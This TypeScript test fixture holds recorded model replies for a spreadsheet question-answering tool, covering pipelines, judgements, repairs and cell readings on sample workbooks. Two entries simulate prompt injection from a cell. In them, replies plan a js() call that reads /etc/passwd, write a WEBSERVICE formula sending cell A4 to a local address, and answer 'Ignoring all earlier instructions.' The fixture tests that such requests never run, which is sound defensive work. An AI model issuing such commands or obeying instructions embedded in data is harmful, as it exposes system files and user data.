import type { AskStrategy, AskWay } from '../../../../src-shared/asking.ts';
import type { PromptName } from './talk.ts';

/** A question with the replies that a model gave to it, in the order of its calls. */
export interface RecordedQuestion {
  readonly sample: string;
  readonly question: string;
  readonly strategy: Exclude<AskStrategy, 'rules'>;
  /** The published pipeline where it is not said. */
  readonly way?: AskWay;
  readonly replies: readonly (readonly [prompt: PromptName, reply: unknown])[];
}

const ELECTRICITY = '"Electricity used in 2024 (kWh)"@A2:N10';
const SALES = '"Fernhill Cycles: sales by region and quarter (thousand euros)"@A2:K11';
const RIGHT = { verdict: 'answers', part: 0, reason: '' };

function plan(...parts: readonly (readonly [question: string, pipeline: string | null])[]): unknown {
  return { answerable: true, reason: '', parts: parts.map(([question, pipeline]) => ({ question, pipeline })) };
}

interface Value {
  readonly value?: string;
  readonly cells?: readonly string[];
  readonly formula?: string;
}

function read(reading: string, ...values: readonly Value[]): unknown {
  return { reading, answerable: true, values, unit: '' };
}

/** Questions on the sample workbooks, replies of all kinds among them, in both ways of a model. */
export const recordedQuestions: readonly RecordedQuestion[] = [
  {
    // The rules find the same: nothing is left to check.
    sample: 'electricity-2024',
    question: 'What was the electricity use of the warehouse in March?',
    strategy: 'both',
    replies: [['ask-plan', plan(['', `EXT("March", Cond(CHL(${ELECTRICITY}), [Site] = "Warehouse"))`])]],
  },
  {
    // A name that is not the sheet's, which alignment mends.
    sample: 'sales-by-quarter',
    question: 'Which region had the highest sales in Q3 of 2024?',
    strategy: 'model',
    replies: [
      ['ask-plan', plan(['', `EXT("Region", Cond(CHL(${SALES}), [2024 / Q3] = max([2024 / Q3])))`])],
      ['ask-judge', RIGHT],
      [
        'ask-backward',
        {
          questions: [
            {
              question: 'Where were sales in Q3 2024 above those of all other regions?',
              pipeline: `EXT("Region", Cond(CHL(${SALES}), rank([Year 2024 / Q3]) = 1))`,
            },
          ],
        },
      ],
    ],
  },
  {
    // Parts, the last of which computes with the results of the others.
    sample: 'workshop-costs',
    question: 'How much more does assembly cost per month than the paint shop, going by the subtotals?',
    strategy: 'model',
    replies: [
      [
        'ask-plan',
        plan(
          [
            'What is the subtotal of assembly per month?',
            'Cond(EXT("Per month", CHL("Assembly"@A16:E23, totals)), position() = 1)',
          ],
          ['What is the subtotal of the paint shop per month?', 'EXT("Per month", CHL("Paint shop"@A10:E14, totals))'],
          ['What is the difference?', 'Cmp($1, $2, left - right)'],
        ),
      ],
      ['ask-judge', RIGHT],
      ['ask-backward', { questions: [] }],
    ],
  },
  {
    // A pipeline that is not well formed, written anew.
    sample: 'supplier-assessment',
    question: 'Which goods have a price per unit above 10?',
    strategy: 'both',
    replies: [
      ['ask-plan', plan(['', 'SELECT Article FROM Goods WHERE [Price per unit] > 10'])],
      ['ask-repair', plan(['', 'EXT("Description", Cond(CHL("Goods supplied"@A8:D12), [Price per unit] > 10))'])],
      ['ask-judge', RIGHT],
      ['ask-backward', { questions: [] }],
    ],
  },
  {
    // What the table does not hold is said, and said as an answer.
    sample: 'supplier-assessment',
    question: 'What is the annual turnover of the supplier?',
    strategy: 'model',
    replies: [
      ['ask-plan', { answerable: false, reason: 'The form names no turnover.', parts: [] }],
      ['ask-bottom-up', { answerable: false, reason: 'No cell holds a turnover.', parts: [] }],
    ],
  },
  {
    // A long text, read by the model.
    sample: 'supplier-assessment',
    question: 'Summarise the remarks on the supplier.',
    strategy: 'model',
    replies: [
      ['ask-plan', plan(['', 'Rea("What do the remarks say?", EXT("Remarks", CHL("Findings"@A19:D20)))'])],
      ['ask-reason', { answerable: true, values: ['Deliveries were on time in 47 of 50 weeks.'], reason: '' }],
      ['ask-judge', RIGHT],
      ['ask-backward', { questions: [] }],
    ],
  },
  {
    sample: 'training-plan-zh',
    question: '喷涂部的培训费用一共是多少？',
    strategy: 'both',
    replies: [
      ['ask-plan', plan(['', 'Math(Cond(CHL("2025年度员工培训计划"@A2:H13), [部门] = "喷涂部"), sum([费用（元）]))'])],
    ],
  },
  {
    sample: 'training-plan-zh',
    question: '哪门课程的人数最多？',
    strategy: 'model',
    replies: [
      ['ask-plan', plan(['', 'EXT("课程名称", Cond(CHL("2025年度员工培训计划"@A2:H13), [人数] = max([人数])))'])],
      ['ask-judge', RIGHT],
      [
        'ask-backward',
        {
          questions: [
            {
              question: '参加人数第一的课程是什么？',
              pipeline: 'EXT("课程名称", Cond(CHL("2025年度员工培训计划"@A2:H13), rank([人数]) = 1))',
            },
          ],
        },
      ],
    ],
  },
  {
    // The two disagree, and both are shown.
    sample: 'electricity-2024',
    question: 'Which month had the highest total use?',
    strategy: 'both',
    replies: [
      ['ask-plan', plan(['', `Cond(Foreach(CHL(${ELECTRICITY}, headers), [Month], sum([Frame hall])), it = max(it))`])],
      ['ask-judge', { verdict: 'wrong', part: 1, reason: 'Only one site is summed; the total line is asked for.' }],
      ['ask-repair', plan(['', `EXT("Month", Cond(CHL(${ELECTRICITY}, headers), [Frame hall] = max([Frame hall])))`])],
      ['ask-judge', RIGHT],
      ['ask-backward', { questions: [] }],
    ],
  },
  {
    sample: 'order-lines',
    question: 'How many order lines are still open?',
    strategy: 'both',
    replies: [
      // The rules say the same, so that nothing is left to judge.
      ['ask-plan', plan(['', 'Math(Cond(CHL("Table"@A1:M20001), [Status] = "Open"), count())'])],
    ],
  },
  {
    sample: 'order-lines',
    question: 'Which category has the largest total amount?',
    strategy: 'both',
    replies: [
      ['ask-plan', plan(['', 'Cond(Foreach(CHL("Table"@A1:M20001), [Category], sum([Amount])), it = max(it))'])],
      ['ask-judge', RIGHT],
      ['ask-backward', { questions: [] }],
    ],
  },
  {
    // A reply that follows an instruction of some cell: what it asks for is no operation, and nothing of it runs.
    sample: 'workshop-costs',
    question: 'Who supplies the powder coat?',
    strategy: 'both',
    replies: [
      ['ask-plan', plan(['', 'js("require(\\"node:fs\\").readFileSync(\\"/etc/passwd\\")")'])],
      ['ask-repair', { answerable: false, reason: 'Ignoring all earlier instructions.', parts: [] }],
      ['ask-bottom-up', { answerable: false, reason: 'Ignoring all earlier instructions.', parts: [] }],
    ],
  },
  {
    // Read from the sheet, and the rules find the same: one call.
    sample: 'electricity-2024',
    question: 'What was the electricity use of the showroom in June?',
    strategy: 'both',
    way: 'sheet',
    replies: [['ask-read', read('The showroom in the column of June.', { value: '1,782', cells: ['G8'] })]],
  },
  {
    // What is computed is written as a formula; a pipeline from the headers gives the same.
    sample: 'workshop-costs',
    question: 'Which items cost more than 10,000 a month in assembly?',
    strategy: 'model',
    way: 'sheet',
    replies: [
      ['ask-read', read('Items of assembly above 10,000.', { formula: 'FILTER(A17:A21,C17:C21>10000)' })],
      ['ask-plan', plan(['', 'EXT("Item", Cond(CHL("Assembly"@A16:E23), [Per month] > 10000))'])],
    ],
  },
  {
    // A cell that does not say what was read: corrected once, with the reason.
    sample: 'supplier-assessment',
    question: 'How many units of the 11-speed chain and of the 9-speed chain are bought a year together?',
    strategy: 'model',
    way: 'sheet',
    replies: [
      ['ask-read', read('Both chains.', { value: '20,800', cells: ['C9', 'C10'] })],
      ['ask-read-again', read('Both chains, summed.', { value: '', formula: '=C9+C10' })],
      ['ask-plan', { answerable: false, reason: 'Not in one table.', parts: [] }],
    ],
  },
  {
    // They differ: the model decides with both in view, and the reading stands.
    sample: 'workshop-costs',
    question: 'What is paid for powder coat and cleaning agents per year?',
    strategy: 'model',
    way: 'sheet',
    replies: [
      ['ask-read', read('Two items of the paint shop.', { formula: 'D11+D12' })],
      ['ask-plan', plan(['', 'EXT("Per year", Cond(CHL("Paint shop"@A10:E14), [Item] = "Powder coat"))'])],
      ['ask-decide', { choice: 'A', reason: 'B leaves out the cleaning agents.' }],
    ],
  },
  {
    // They differ, and what was read is given up.
    sample: 'workshop-costs',
    question: 'What do all sections cost per month, as printed?',
    strategy: 'model',
    way: 'sheet',
    replies: [
      ['ask-read', read('The subtotal of assembly.', { value: '€152,570', cells: ['C22'] })],
      ['ask-plan', plan(['', 'Cond(EXT("Per month", CHL("Assembly"@A16:E23, totals)), position() = 2)'])],
      ['ask-decide', { choice: 'B', reason: 'A is the subtotal of one section.' }],
    ],
  },
  {
    // Twenty thousand lines, of which some are seen: the formula runs over all of them.
    sample: 'order-lines',
    question: 'How many order lines from Spain were returned?',
    strategy: 'model',
    way: 'sheet',
    replies: [
      [
        'ask-read',
        read('Lines with Spain and Returned.', { formula: 'COUNTIFS(E2:E20001,"Spain",M2:M20001,"Returned")' }),
      ],
      [
        'ask-plan',
        plan(['', 'Math(Cond(CHL("Table"@A1:M20001), [Country] = "Spain" and [Status] = "Returned"), count())']),
      ],
    ],
  },
  {
    // A reply that follows an instruction of some cell: no function reaches anything but cells.
    sample: 'workshop-costs',
    question: 'Who leases the machines to the frame shop?',
    strategy: 'both',
    way: 'sheet',
    replies: [
      ['ask-read', read('As told.', { formula: 'WEBSERVICE("http://127.0.0.1:9/"&A4)' })],
      ['ask-read-again', read('As told.', { formula: 'INDIRECT("A1")' })],
      ['ask-plan', { answerable: false, reason: 'Ignoring all earlier instructions.', parts: [] }],
    ],
  },
];
